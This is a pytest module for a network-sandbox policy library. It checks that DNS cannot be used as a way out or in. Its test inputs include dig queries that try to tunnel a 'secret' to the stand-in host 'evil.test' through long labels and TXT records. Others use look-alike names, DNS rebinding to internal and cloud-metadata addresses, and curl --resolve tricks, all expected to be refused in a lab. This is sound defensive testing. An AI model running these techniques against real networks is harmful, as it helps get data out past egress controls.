"""Names as a way out or in: tunnels through the resolver, other resolvers, rebinding, chains of aliases, records that nobody asked for.

What has reached the name server it has noted; that nothing has left at all is seen on the wire.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from tests.lab.guest import GATEWAY, RESOLVER
from tests.lab.policed import REFUSED_SECONDS
from tests.lab.servers.http import FRONT_PAGE
from tests.lab.servers.places import ALTERNATIVE_PORT, BAD, CDN, FOUND, INTRANET, STUFFED
from tests.lab.servers.zone import REBOUND
from tests.lab.world import NAMES, WWW
from usernat.policy import NetworkPolicy
from usernat.policy.matchers import Domain, Network, all_of

if TYPE_CHECKING:
    from tests.lab.departures import Departures
    from tests.lab.policed import Record, Suspect
    from tests.lab.world import World

ALLOW, DENY = NetworkPolicy.allow_all(), NetworkPolicy.deny_all()
DIG = "dig +tries=1 +time=5"
CURL = "curl -sS -k --max-time 5"
FAR = "198.51.100.2"
TYPES = ("A", "AAAA", "TXT", "MX", "NS", "SRV", "ANY", "NULL", "CNAME", "PTR", "SOA", "HTTPS", "SVCB", "AXFR")


@pytest.fixture(autouse=True)
def _fresh(world: World, departures: Departures) -> None:
    """Nothing that was seen before counts."""
    world.seen("dns")
    departures.taken()


def asked(world: World) -> list[str]:
    return [note["question"] for note in world.seen("dns")]


def refused_by_the_resolver(policed: Suspect, question: str) -> None:
    """The answer is that there is no such name, and it comes at once."""
    shown, status, seconds = policed.attempt(f"{DIG} @{RESOLVER} {question}")
    assert "status: NXDOMAIN" in shown or ("AXFR" in question and "Transfer failed" in shown), (status, shown)
    assert seconds < REFUSED_SECONDS


@pytest.mark.parametrize("transport", ["+notcp", "+tcp"])
def test_c35_no_type_of_question_leaves(
    policed: Suspect, departures: Departures, world: World, transport: str
) -> None:
    policed.gateway.obey(DENY)
    for kind in TYPES:
        refused_by_the_resolver(policed, f"{transport} secret.evil.test {kind}")
    assert departures.taken() == set()
    assert asked(world) == []
    records = policed.gateway.decisions()
    assert {record["name"] for record in records} == {"secret.evil.test"}
    assert {(record["protocol"], record["verdict"]) for record in records} == {("dns", "deny")}


@pytest.mark.parametrize("policy", [DENY, DENY.allow_dns(), DENY.allow_domain("www.lab.test")])
@pytest.mark.parametrize("transport", ["+notcp", "+tcp"])
@pytest.mark.parametrize("server", [NAMES, WWW, FAR, GATEWAY])
def test_c35_no_other_resolver_is_reached(
    policed: Suspect, departures: Departures, policy: NetworkPolicy, transport: str, server: str
) -> None:
    policed.gateway.obey(policy)
    policed.refused(f"{DIG} @{server} {transport} www.lab.test")
    assert departures.taken() == set()


def test_other_ports_for_names_are_ports_like_all_others(policed: Suspect, departures: Departures) -> None:
    """DNS over TLS and over QUIC (port 853), over HTTPS (443), and the next number (5353)."""
    policed.gateway.obey(DENY.allow_dns().allow_domain("www.lab.test"))
    policed.refused(f"openssl s_client -brief -connect {NAMES}:853 </dev/null")
    policed.refused(f"{CURL} https://{NAMES}/dns-query")
    for port in (443, 853, 5353):
        assert policed.guest.call("datagrams.error_after_sending", NAMES, port) == "No route to host"
    assert departures.taken() == set()


def test_c35_a_tunnel_by_labels_and_by_txt(policed: Suspect, departures: Departures, world: World) -> None:
    """One name is allowed. Names below it, beside it and around it carry nothing out, however long they are."""
    policed.gateway.obey(DENY.allow_domain("www.lab.test"))
    data = ".".join(["x" * 60] * 3)
    for name in (f"{data}.evil.test", f"{data}.www.lab.test", f"{data}.lab.test", "www.lab.test.evil.test"):
        refused_by_the_resolver(policed, f"{name} TXT")
        refused_by_the_resolver(policed, f"+tcp {name}")
    assert departures.taken() == set()
    assert asked(world) == []
    assert WWW in policed.run(f"{DIG} +short www.lab.test")
    assert asked(world) == ["www.lab.test."]


def test_c42_names_that_look_alike(policed: Suspect, departures: Departures, world: World) -> None:
    """Another case is the same name; another alphabet is another one, and so is a NUL, a dot inside a label, or a percent sign."""
    policed.gateway.obey(DENY.allow_domain("www.lab.test"))
    cyrillic = "www.l\N{CYRILLIC SMALL LETTER A}b.test".encode("idna").decode()
    for name in (
        cyrillic,
        r"www.lab.test\000.evil.test",
        r"www\.lab.test",
        "www%2elab.test",
        "evilwww.lab.test",
    ):
        refused_by_the_resolver(policed, f"'{name}'")
    assert departures.taken() == set()
    assert policed.run(f"{DIG} +short WwW.LaB.tEsT.") == f"{WWW}\n"
    assert [name.lower() for name in asked(world)] == ["www.lab.test."]


@pytest.mark.parametrize(("place", "address"), REBOUND.items(), ids=REBOUND)
def test_c29_no_allowed_name_leads_inside(
    policed: Suspect, departures: Departures, place: str, address: str
) -> None:
    """The address is not told, and audited; and a guest that knows it all the same does not get there, by whatever port."""
    policed.gateway.obey(DENY.allow_domain("*.lab.test"))
    name = f"rebind-{place}.lab.test"
    for transport in ("+notcp", "+tcp"):
        assert policed.run(f"{DIG} {transport} +short {name}") == ""
    withheld = [record for record in policed.gateway.decisions() if record["verdict"] == "deny"]
    assert [record["name"] for record in withheld] == [name, name]
    assert address == "0.0.0.0" or {record["destination"] for record in withheld} == {address}
    if place != "zero":  # to a kernel that is another word for itself
        for port in (80, 443, 8080):
            policed.refused(f"{CURL} --resolve {name}:{port}:{address} {name}:{port}")
    assert departures.to(address, "127.0.0.1") == set()


def test_c29_half_an_answer(policed: Suspect) -> None:
    """Of two addresses the one outside is told."""
    policed.gateway.obey(DENY.allow_domain("*.lab.test"))
    assert policed.run(f"{DIG} +short rebind-half.lab.test") == f"{WWW}\n"


def test_c29_mapped_addresses_lead_where_the_plain_ones_do(policed: Suspect, departures: Departures) -> None:
    """What an AAAA record says ends in a flow over IPv4, if anywhere, which is judged like all others."""
    policed.gateway.obey(DENY.allow_domain("*.lab.test"))
    for address in ("192.168.1.1", "169.254.169.254", GATEWAY):
        policed.refused(f"{CURL} -g 'http://[::ffff:{address}]/'")
        assert departures.to(address, "127.0.0.1") == set()


def test_c29_a_rule_that_names_the_network_too(policed: Suspect, world: World) -> None:
    """A name of the intranet, at an address of the intranet: that is what was meant."""
    policed.gateway.obey(DENY.rule("allow", all_of(Domain("git.lab.test"), Network("10.9.0.0/16"))))
    world.seen("web")
    assert policed.run(f"{CURL} http://git.lab.test/") == FRONT_PAGE
    policed.refused(f"{CURL} http://{INTRANET}/")
    assert [note["to"] for note in world.seen("web")] == [INTRANET]


def test_c31_an_allowed_name_at_a_content_network(policed: Suspect, world: World) -> None:
    """The name that was asked for is what counts, not that of the machine which answers for it."""
    policed.gateway.obey(DENY.allow_domain("fronted.lab.test"))
    world.seen("web")
    assert policed.run(f"{CURL} http://fronted.lab.test/") == FRONT_PAGE
    assert policed.run(f"{CURL} https://fronted.lab.test/") == FRONT_PAGE
    assert [note["to"] for note in world.seen("web")] == [CDN, CDN]
    refused_by_the_resolver(policed, "edge.cdn.test")
    policed.refused(f"{CURL} --resolve edge.cdn.test:443:{CDN} https://edge.cdn.test/")


def test_c31_an_alias_of_a_denied_name(policed: Suspect, departures: Departures) -> None:
    """A tracker behind two harmless names (CNAME cloaking)."""
    policed.gateway.obey(ALLOW.deny_domain("*.evil.test"))
    refused_by_the_resolver(policed, "cloaked.lab.test")
    policed.refused(f"{CURL} http://cloaked.lab.test/")
    assert departures.to(BAD) == set()
    assert policed.run(f"{DIG} +short alias.lab.test").split() == ["www.lab.test.", WWW]


def test_c30_an_address_that_nobody_asked_for(policed: Suspect, departures: Departures) -> None:
    """An answer for one name carries an address for another, which is that of the first: nothing leads there by the other name."""
    policy = DENY.allow_domain("stuffed.lab.test", port=ALTERNATIVE_PORT).allow_domain("victim.lab.test")
    policed.gateway.obey(policy)
    assert "victim.lab.test." in policed.run(f"{DIG} stuffed.lab.test")
    departures.taken()
    for port, scheme in ((80, "http"), (443, "https")):
        policed.refused(f"{CURL} --resolve victim.lab.test:{port}:{STUFFED} {scheme}://victim.lab.test/")
    policed.refused(f"{CURL} http://{STUFFED}:9090/")
    assert departures.to(STUFFED) == set()
    assert policed.run(f"{CURL} http://stuffed.lab.test:{ALTERNATIVE_PORT}/") == FRONT_PAGE


def test_https_records_hide_no_names(policed: Suspect, world: World) -> None:
    """They carry the keys with which a client encrypts the name it wants; without them it just says it."""
    policed.gateway.obey(DENY.allow_domain("found.lab.test"))
    shown = policed.run(f"{DIG} found.lab.test HTTPS")
    assert "status: NOERROR" in shown
    assert "ANSWER: 0" in shown
    assert asked(world) == []
    assert policed.run(f"{DIG} +short found.lab.test") == f"{FOUND}\n"


def test_silence_for_names(policed: Suspect, world: World) -> None:
    """on_deny = "drop": the client waits for nobody."""
    policed.gateway.obey(DENY.allow_domain("www.lab.test").denying("drop"))
    assert "no servers could be reached" in policed.attempt("dig +tries=1 +time=1 secret.evil.test").output
    assert asked(world) == []
    assert policed.run(f"{DIG} +short www.lab.test") == f"{WWW}\n"


def verdicts(records: list[Record]) -> set[tuple[str, str]]:
    return {(record["name"], record["verdict"]) for record in records}


def test_two_questions_on_one_connection(policed: Suspect, world: World) -> None:
    """The one is answered, the other refused, and neither has to wait for the other."""
    policed.gateway.obey(DENY.allow_domain("www.lab.test"))
    shown = policed.run(f"{DIG} +tcp +keepopen www.lab.test secret.evil.test www.lab.test")
    assert [line.split("status: ")[1].split(",")[0] for line in shown.splitlines() if "status: " in line] == [
        "NOERROR",
        "NXDOMAIN",
        "NOERROR",
    ]
    assert set(asked(world)) == {"www.lab.test."}
    assert verdicts(policed.gateway.decisions()) == {("www.lab.test", "allow"), ("secret.evil.test", "deny")}
